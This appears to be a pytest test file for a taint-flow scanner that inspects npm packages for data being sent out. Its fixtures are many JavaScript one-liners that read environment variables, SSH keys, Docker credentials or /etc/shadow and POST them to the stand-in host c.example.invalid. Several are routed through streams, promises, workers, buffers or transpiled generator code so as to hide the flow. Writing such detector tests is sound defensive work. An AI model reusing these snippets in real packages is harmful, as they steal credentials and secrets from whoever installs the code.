"""What goes through streams, promises, channels, buffers and handles arrives as what it was."""

import pytest
from engine_flows import program_of

from ostiary.program.flow import Act, Taint

ALL = "JSON.stringify(process.env)"
KEY = "require('os').homedir() + '/.ssh/id_rsa'"
SEND = "fetch('https://c.example.invalid/', {method: 'POST', body: "
OUT = "require('https').request('https://c.example.invalid/', {method: 'POST'})"
THREAD = 'require("worker_threads").parentPort.on("message", m => fetch("https://c.example.invalid/" + m))'
SENT = {
    "a pipe": f"require('stream').Readable.from([{ALL}]).pipe({OUT})",
    "a pipe of a stream by its options": "const {Readable} = require('stream'); new Readable({read() {"
    f" this.push({ALL}) }}}}).pipe({OUT})",
    "a pipe of a stream by its class": "const {Readable} = require('stream'); class R extends Readable {"
    f" _read() {{ this.push({ALL}) }} }}; new R().pipe({OUT})",
    "a pipeline": f"require('stream').pipeline(require('fs').createReadStream({KEY}), {OUT}, () => {{}})",
    "a packer that is led on first": f"const z = require('zlib').createGzip(); z.pipe({OUT}); z.end({ALL})",
    "a packer that calls back": f"require('zlib').gzip({ALL}, (e, b) => {SEND}b}}))",
    "a stream of the web": f"{SEND}new ReadableStream({{start(c) {{ c.enqueue({ALL}) }}}})}})",
    "a sink of the web": f"new Blob([{ALL}]).stream().pipeTo(new WritableStream("
    f"{{write(c) {{ {SEND}c}}) }}}}))",
    "two ends of the web": "const c = new CompressionStream('gzip'); c.writable.getWriter().write("
    f"{ALL}); new Response(c.readable).arrayBuffer().then(b => {SEND}b}}))",
    "a console of its own": "const {Console} = require('console'); const {PassThrough} = require('stream');"
    f"const p = new PassThrough(); p.on('data', d => {SEND}d}})); new Console(p).log(process.env)",
    "a promise": f"new Promise(r => r({ALL})).then(x => {SEND}x}}))",
    "a promise that fails": f"new Promise((a, b) => b({ALL})).catch(x => {SEND}x}}))",
    "a promise that others settle": f"let r; new Promise(x => r = x).then(x => {SEND}x}})); r({ALL})",
    "a promise with resolvers": "const {promise, resolve} = Promise.withResolvers();"
    f"promise.then(x => {SEND}x}})); resolve({ALL})",
    "a promise of an event": "(async () => { const {EventEmitter, once} = require('events'); const e = new "
    f"EventEmitter(); setImmediate(() => e.emit('a', {ALL}));"
    f"const [b] = await once(e, 'a'); {SEND}b}}) }})()",
    "an event of the web": f"const t = new EventTarget(); t.addEventListener('z', e => {SEND}e.detail}}));"
    f"t.dispatchEvent(new CustomEvent('z', {{detail: {ALL}}}))",
    "an event of the process": f"process.on('zz', m => {SEND}m}})); process.emit('zz', {ALL})",
    "an error of the process": f"process.on('uncaughtException', e => {SEND}e.message}}));"
    f"setImmediate(() => {{ throw new Error({ALL}) }})",
    "a thread": f"const {{Worker}} = require('worker_threads'); new Worker('{THREAD}', {{eval: true}})"
    f".postMessage({ALL})",
    "what a thread is made with": "const {Worker, workerData: w} = require('worker_threads'); new Worker("
    f"__filename, {{workerData: {ALL}}}); {SEND}w}})",
    "what a thread answers": "const {Worker} = require('worker_threads'); new Worker('require("
    '"worker_threads").parentPort.postMessage(process.env)\', {eval: true})'
    f".on('message', m => {SEND}JSON.stringify(m)}}))",
    "two ports": f"const {{port1, port2}} = new MessageChannel(); port2.onmessage = e => {SEND}e.data}});"
    f"port1.postMessage({ALL})",
    "a generator": f"function* g() {{ const x = yield; {SEND}x}}) }} const i = g(); i.next(); i.next({ALL})",
    "a generator that is thrown at": f"function* g() {{ try {{ yield }} catch (e) {{ {SEND}e}}) }} }}"
    f"const i = g(); i.next(); i.throw({ALL})",
    "a set": f"const w = new Set(); w.add({ALL}); for (const x of w) {SEND}x}})",
    "a map": f"const w = new Map(); w.set('a', {ALL}); for (const [k, x] of w) {SEND}x}})",
    "other signs": "const T = {}; for (let i = 0; i < 256; i++) T[String.fromCharCode(i)] = i.toString(16);"
    f"let o = ''; for (const c of {ALL}) o += T[c]; {SEND}o}})",
    "a buffer that is written": f"const b = Buffer.alloc(99999); b.write({ALL}); {SEND}b}})",
    "a buffer that is copied": f"const b = Buffer.alloc(99); Buffer.from({ALL}).copy(b); {SEND}b}})",
    "a view": f"const v = new DataView(new ArrayBuffer(9)); v.setUint8(0, {ALL}); {SEND}v.buffer}})",
    "an encoder": f"const b = new Uint8Array(9); new TextEncoder().encodeInto({ALL}, b); {SEND}b}})",
    "a descriptor": f"const f = require('fs'); const d = f.openSync({KEY}); const b = Buffer.alloc(9);"
    f"f.readSync(d, b, 0, 9, 0); {SEND}b}})",
    "a handle": "(async () => { const h = await require('fs/promises').open("
    f"{KEY}); {SEND}await h.readFile()}}) }})()",
    "a module of JSON": f"{SEND}JSON.stringify(require(require('os').homedir() + '/.docker/config.json'))}})",
    "an address of a file": f"{SEND}require('fs').readFileSync(new URL('file:///etc/shadow'))}})",
    "a library that is told where": f"{SEND}JSON.stringify(require('a').readSync({KEY}))}})",
    "an archive of a library": "const z = new (require('a'))(); z.addLocalFolder(require('os').homedir() + "
    f"'/.ssh'); {SEND}z.toBuffer()}})",
    "settings by a name": f"{SEND}JSON.stringify(require('rc')('npm'))}})",
    "a report": f"{SEND}JSON.stringify(process.report.getReport())}})",
    "an image of a page": "new Image().src = 'https://c.example.invalid/?' + " + ALL,
    "an archive of a command": "require('child_process').execSync('tar czf /tmp/x.tgz ~/.ssh');"
    f"{SEND}require('fs').readFileSync('/tmp/x.tgz')}})",
    "a form": "const f = new (require('form-data'))(); f.append('f', require('fs')"
    f".createReadStream({KEY})); f.submit('https://c.example.invalid/')",
    "a library that is told everything": "require('a').post('https://c.example.invalid/', "
    f"{{payload: {ALL}}})",
    "files that were looked for": f"require('a').c({{cwd: require('os').homedir()}}, ['.ssh']).pipe({OUT})",
    "a mail": "require('nodemailer').createTransport({service: 'a'}).sendMail({attachments: "
    f"[{{path: {KEY}}}]}})",
    "a module of the runtime": f"{SEND}JSON.stringify(process.getBuiltinModule('process').env)}})",
}
HELPED = "function go() { return helper(function () { var d; return "
COMPILED = {
    "tslib": f"const t = require('tslib'); {HELPED}t.__generator(this, function (_a) {{ switch (_a.label) {{"
    f"case 0: return [4, require('fs').promises.readFile({KEY})];"
    f"case 1: d = _a.sent(); return [4, {SEND}d}})]; case 2: _a.sent(); return [2]; }} }}); }}); }} go();",
    "its own helper": "var __generator = (this && this.__generator) || function (t, body) { return body; };"
    f"{HELPED}__generator(this, function (_a) {{ switch (_a.label) {{"
    f"case 0: return [4, require('fs').promises.readFile({KEY})];"
    f"case 1: d = _a.sent(); return [4, {SEND}d}})]; case 2: _a.sent(); return [2]; }} }}); }}); }} go();",
    "a runtime": f"{HELPED}regeneratorRuntime.wrap(function (_c) {{ while (1) switch (_c.prev = _c.next) {{"
    f"case 0: _c.next = 2; return require('fs').promises.readFile({KEY});"
    f"case 2: d = _c.sent; _c.next = 5; return {SEND}d}}); case 5: return _c.stop(); }} }}); }}); }} go();",
    "a runtime in short": f"function _regenerator() {{}} {HELPED}_regenerator().w(function (_c) {{"
    f"while (1) switch (_c.n) {{ case 0: _c.n = 1; return require('fs').promises.readFile({KEY});"
    f"case 1: d = _c.v; return _c.a(2, {SEND}d}})); }} }}); }}); }} go();",
}
KEPT = {
    "a pipe": f"require('fs').createReadStream(__dirname + '/a.txt').pipe({OUT})",
    "a promise": f"new Promise(r => r(1)).then(x => {SEND}x}})); process.on('exit', () => {ALL})",
    "another event": f"process.on('zz', m => {SEND}m}})); process.emit('yy', {ALL})",
    "another object": "const {EventEmitter: E} = require('events'); const a = new E(), b = new E();"
    f"a.on('x', m => {SEND}m}})); b.emit('x', {ALL})",
    "another map": f"const a = new Map(), b = new Map(); a.set(1, {ALL}); b.set(1, 'x'); {SEND}b.get(1)}})",
    "a table of settings": f"const t = {{a: 'x'}}; {SEND}t[process.env.MODE]}})",
    "a path that is asked for": "const p = require('a').existsSync(require('os').homedir() + '/.npmrc');"
    f"{SEND}p}})",
    "a thread": f"const {{Worker}} = require('worker_threads'); new Worker('{THREAD}', {{eval: true, "
    "env: process.env}).postMessage('go')",
}


def sent(text: str) -> bool:
    program = program_of("npm", {"index.js": text})
    kinds = (Taint.ENVIRONMENT, Taint.SECRET, Taint.MEMORY)
    return any(one.act is Act.SEND and one.has(*kinds) for one in program.flows)


@pytest.mark.parametrize("way", SENT)
def test_it_arrives(way: str) -> None:
    assert sent(SENT[way])
    assert sent(f"module.exports = function api() {{ {SENT[way]} }}")


@pytest.mark.parametrize("way", COMPILED)
def test_what_a_compiler_made_of_it(way: str) -> None:
    helper = "function helper(f) { return f(); }\n"
    assert sent(helper + COMPILED[way])
    assert not sent(helper + COMPILED[way].replace("/.ssh/id_rsa", "/a.txt"))


@pytest.mark.parametrize("way", KEPT)
def test_nothing_is_made_up(way: str) -> None:
    assert not sent(KEPT[way])
